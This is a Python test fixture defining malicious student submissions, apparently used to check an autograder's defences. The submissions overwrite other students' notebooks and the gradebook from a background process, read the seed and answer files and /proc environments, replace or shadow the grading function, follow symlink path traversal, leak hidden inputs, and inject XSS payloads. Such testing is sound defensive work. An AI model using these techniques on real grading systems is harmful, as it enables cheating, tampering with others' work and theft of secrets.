"""Those who try to get more than their functions are worth, or to take from others.

THE_COURSE and THE_SEED stand for the true paths of the instructor's folder and of the file with the seed: whoever
attacks is given more than a student can know.
"""

from submissions import Submission
from submissions.functions import ADA

NOTHING = {
    "overused": "def overused(candidate, references):\n    return {}\n",
    "credited": "def credited(candidate, references):\n    return [1] * len(candidate)\n",
    "text_precision": "def text_precision(sentences, references_of_each, n):\n    return 0.5\n",
}

EDITS_OTHERS = '''
import subprocess, sys
from pathlib import Path

ROGUE = """
import sys, time
from pathlib import Path

course = Path("THE_COURSE")
for again in range(int(sys.argv[1])):
    for place in [course, Path.cwd(), *Path.cwd().parents]:
        for path in [*place.glob("*/*/ps1/*.ipynb"), *place.glob("*/*.ipynb")]:
            try:
                path.write_text(path.read_text().replace("return", "return None and"))
            except OSError as reason:
                print(reason)
    ours = [course / name for name in ("answers.py", "grading.jsonl", "gradebook.db", "nbgrader_config.py")]
    for path in ["THE_SEED", *ours]:
        try:
            Path(path).write_text("mallory was here")
        except OSError as reason:
            print(reason)
    time.sleep(1)
"""

Path("rogue.py").write_text(ROGUE)
print(subprocess.run([sys.executable, "rogue.py", "1"], capture_output=True, text=True).stdout[:2000])
# ... and once more, when this notebook is over.
subprocess.Popen([sys.executable, "rogue.py", "20"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

READS = """
import gc, glob, os, sys
from pathlib import Path
import bleu_helpers

repository = Path(bleu_helpers.__file__).parent.parent
places = ["THE_SEED", "THE_COURSE/answers.py", "THE_COURSE/grading.jsonl", "THE_COURSE/source/ps1/ps1.ipynb",
          *map(str, (repository / "notebooks/assignments").glob("**/*")), str(repository / "tests/course.py"),
          *glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline"),
          *[str(Path(value)) for name, value in os.environ.items() if "SEED" in name or "BLEU" in name]]
for place in places:
    try:
        print(place, Path(place).read_bytes().decode(errors="replace"))
    except OSError as reason:
        print(reason)
print(dict(os.environ), sys.path, [text for text in gc.get_objects() if isinstance(text, str) and "seed" in text])
sys.path += ["THE_COURSE", str(repository / "notebooks/assignments"), str(repository / "tests")]
"""

FROM_ANSWERS = {
    name: f"""
try:
    from answers import {name}
except ImportError as reason:
    print(reason)
    {text.replace(chr(10) + "    ", " ")}
"""
    for name, text in NOTHING.items()
}

ASKS_FOR_MORE = NOTHING | {
    "overused": NOTHING["overused"]
    + """
import bleu_helpers.course

real = bleu_helpers.course.grade
try:
    real(overused, "overused", points=6, partial={"unknown": 0.5})
except ValueError as reason:
    print(reason)

def kinder(function, task, points, **more):
    return float(points) if task == "overused" else real(function, task, points, **more)

bleu_helpers.course.grade = kinder
"""
}

TRIES_SEVERAL = NOTHING | {
    "overused": """
from bleu_helpers.course import grade as try_it

def first_only(candidate, references):
    left = {word: candidate.count(word) - references[0].count(word) for word in candidate}
    return {word: times for word, times in left.items() if times > 0}

def largest(candidate, references):
    left = {word: candidate.count(word) - max(r.count(word) for r in references) for word in candidate}
    return {word: times for word, times in left.items() if times > 0}

overused = max([first_only, largest], key=lambda one: try_it(one, "overused", points=3))
"""
}

SHADOW = '''"""Not the package at all."""
import sys, types

__path__ = []
course = sys.modules["bleu_helpers.course"] = types.ModuleType("bleu_helpers.course")
course.grade = lambda function, task, points, **more: float(points)
'''

TRANSFORMS = """
import re

def generous(lines):
    return [re.sub(r"^grade\\(.*points=(\\d).*", r"float(\\1)", line) for line in lines]

get_ipython().input_transformers_cleanup.append(generous)
"""

LOUD = "<script>document.title = 'LOUD'</script><img src=x onerror=alert(1)>"

DISGUISED = {
    "overused": ADA["overused"]
    + f"""
import base64
from IPython.display import HTML, Javascript, display

display(HTML("{LOUD}"), Javascript("document.title = 'LOUD'"))
"""
    + """
plain_overused = overused

def overused(candidate, references):
    print("HIDDEN INPUT:", candidate, references, base64.b64encode(repr(references).encode()).decode())
    with open("inputs.txt", "a") as file:
        file.write(repr((candidate, references)))
    return plain_overused(candidate, references)
""",
    "credited": """
import matplotlib.pyplot as plt

def credited(candidate, references):
    message = base64.b64encode(repr((candidate, references)).encode()).decode()
    if len(candidate) > 15:
        plt.title(" ".join(candidate))
        plt.show()
    if len(candidate) > 6:
        overused.__name__ = overused.__doc__ = message
        raise type("LEAK" + message.replace("=", "").replace("+", "").replace("/", ""), (Exception,), {})(message)
    return []
""",
    "text_precision": """
def text_precision(sentences, references_of_each, n):
    assert False, "LEAK" + "|".join(w[::-1] for s in sentences for w in s)
"""
    + f"\n# </pre></code></textarea>{LOUD}\n",
    "reading": f"**My reading:**\n\nA long reading. {LOUD} [here](javascript:alert(1)) ![](https://example.org/spy.png)",
}

ATTACKS = [
    Submission(
        "mallory",
        "edits other submissions, the gradebook and the seed file, at once and later",
        (0, 0, 0),
        NOTHING,
        own=(("set-up", EDITS_OTHERS),),
    ),
    Submission(
        "spy",
        "reads the seed and the answers, and takes the functions from there",
        (0, 0, 0),
        FROM_ANSWERS,
        own=(("set-up", READS),),
    ),
    Submission(
        "eve",
        "has `grade` give half of twice the points, and replaces it by one that gives the points",
        None,
        ASKS_FOR_MORE,
        named="eve: the grading function was replaced",
    ),
    Submission(
        "oracle",
        "asks `grade` which of two functions is right, and keeps that one",
        None,
        TRIES_SEVERAL,
        named="oracle: the grading function was called by a cell of the student's own",
    ),
    Submission(
        "shade",
        "hands in a bleu_helpers.py beside the notebook, which nobody imports",
        (0, 0, 0),
        NOTHING,
        beside={"bleu_helpers.py": SHADOW},
    ),
    Submission(
        "trans",
        "changes the text of cells before they run",
        None,
        NOTHING,
        own=(("set-up", TRANSFORMS),),
        named="trans: the grading function was replaced",
    ),
    Submission(
        "seeder",
        "links to the seed and to the answers beside the notebook, which it reads",
        (0, 0, 0),
        FROM_ANSWERS | {"overused": NOTHING["overused"] + "\nprint(open('words.txt').read())\n"},
        links={"words.txt": "../../../../../home/.bleu_grading_seed", "answers.py": "../../../../answers.py"},
        named="it is a link",
    ),
    Submission(
        "leak",
        "prints, draws, writes and raises the hidden inputs in a disguise, and scripts beside them",
        (3, 0, 0),
        DISGUISED,
    ),
]
